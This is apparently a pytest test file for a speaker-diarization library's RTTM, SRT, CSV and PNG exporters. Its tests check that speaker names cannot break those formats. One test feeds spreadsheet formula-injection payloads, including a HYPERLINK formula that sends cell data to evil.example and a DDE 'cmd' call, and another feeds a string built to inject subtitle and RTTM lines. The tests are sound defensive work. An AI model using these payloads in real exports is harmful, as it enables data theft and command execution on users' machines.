from __future__ import annotations

import csv
import io
from dataclasses import replace

import pytest

from speakerid.diarization.formats import clock, csv_rows, labels, png, rttm, srt
from speakerid.types import SpeakerRef
from tests.diarization.made import ADA, recording

TWO = recording(ADA, None)
NOBODY = recording()


def test_names_are_shown_and_ids_where_two_share_one() -> None:
    assert labels(TWO) == {"spk_1": "Ada B.", "unknown_2": "unknown_2"}
    assert labels(recording(ADA, SpeakerRef("spk_2", "Ada B."))) == {"spk_1": "spk_1", "spk_2": "spk_2"}


def test_rttm_has_ten_fields_a_turn() -> None:
    assert rttm(TWO, "my meeting") == (
        "SPEAKER my_meeting 1 0.250 1.500 <NA> <NA> Ada_B. <NA> <NA>\n"
        "SPEAKER my_meeting 1 2.250 1.500 <NA> <NA> unknown_2 <NA> <NA>\n"
    )
    assert rttm(recording(None, channel=1), "call").split()[2] == "2"


def test_subtitles_name_who_speaks() -> None:
    assert srt(TWO) == ("1\n00:00:00,250 --> 00:00:01,750\nAda B.\n\n2\n00:00:02,250 --> 00:00:03,750\nunknown_2\n\n")


def test_a_name_with_line_breaks_stays_one_subtitle() -> None:
    assert srt(recording(SpeakerRef("spk_1", "Ada\n\n9"))).splitlines()[2] == "Ada 9"


def test_csv_quotes_what_it_must() -> None:
    rows = list(csv.DictReader(io.StringIO(csv_rows(recording(SpeakerRef("spk_1", 'B., "Ada"'), None, channel=1)))))
    assert (rows[0]["speaker"], rows[0]["llr"], rows[0]["channel"]) == ('B., "Ada"', "5.0000", "1")
    assert (rows[1]["voice"], rows[1]["speaker"], rows[1]["llr"]) == ("unknown_2", "", "")
    assert csv_rows(TWO).splitlines()[1] == "0.250,1.750,spk_1,Ada B.,,5.0000,0.9900,false"


@pytest.mark.parametrize("name", ["Ada", "$\\frac{", "名前"])
@pytest.mark.filterwarnings("ignore:Glyph:UserWarning")  # no font has every script; the picture is drawn all the same
def test_the_picture_is_a_png_of_a_row_a_voice(name: str) -> None:
    one, three = png(recording(SpeakerRef("s", name))), png(recording(SpeakerRef("s", name), None, None))
    assert one.startswith(b"\x89PNG")
    assert _height(three) > _height(one)


def _height(picture: bytes) -> int:
    return int.from_bytes(picture[20:24], "big")


def test_no_speech_is_nothing_written() -> None:
    assert (rttm(NOBODY, "x"), srt(NOBODY), len(csv_rows(NOBODY).splitlines())) == ("", "", 1)
    assert png(NOBODY).startswith(b"\x89PNG")


@pytest.mark.parametrize(("seconds", "shown"), [(0.0, "0:00.0"), (59.96, "1:00.0"), (3725.5, "1:02:05.5")])
def test_the_clock(seconds: float, shown: str) -> None:
    assert clock(seconds) == shown


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("http://evil.example/?"&A1)',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "  =1",
        "\N{FULLWIDTH EQUALS SIGN}1",
        "\N{FULLWIDTH PLUS SIGN}1",
        "\N{FULLWIDTH HYPHEN-MINUS}1",
        "\N{FULLWIDTH COMMERCIAL AT}A",
    ],
)
def test_a_name_is_no_formula_of_a_spreadsheet(name: str) -> None:
    (row,) = csv.DictReader(io.StringIO(csv_rows(recording(SpeakerRef("spk_1", name))), newline=""))
    assert row["speaker"] == f"'{name}"


@pytest.mark.parametrize("name", ["Ada B.", "Ada-Lou", "ada@example.org", "'t Hooft", "1=2"])
def test_a_usual_name_stays_as_it_is(name: str) -> None:
    (row,) = csv.DictReader(io.StringIO(csv_rows(recording(SpeakerRef("spk_1", name)))))
    assert row["speaker"] == name


def test_numbers_below_zero_stay_numbers() -> None:
    found = recording(ADA)
    (row,) = csv.DictReader(io.StringIO(csv_rows(replace(found, turns=(replace(found.turns[0], llr=-1.5),)))))
    assert row["llr"] == "-1.5000"


HOSTILE = "Ada\r\n\r\n2\n00:00:00,000 --> 00:00:09,000\n\N{LINE SEPARATOR}SPEAKER x 1 0 9 <NA> <NA> Ben <NA> <NA>\x85\t"


def test_no_name_breaks_a_format() -> None:
    found = recording(SpeakerRef("spk_1", HOSTILE))
    (line,) = rttm(found, HOSTILE).splitlines()
    assert len(line.split(" ")) == 10
    subtitle = srt(found).splitlines()
    assert (len(subtitle), [at for at, text in enumerate(subtitle) if "-->" in text]) == (4, [1])
    (row,) = csv.DictReader(io.StringIO(csv_rows(found), newline=""))
    assert row["speaker"] == HOSTILE
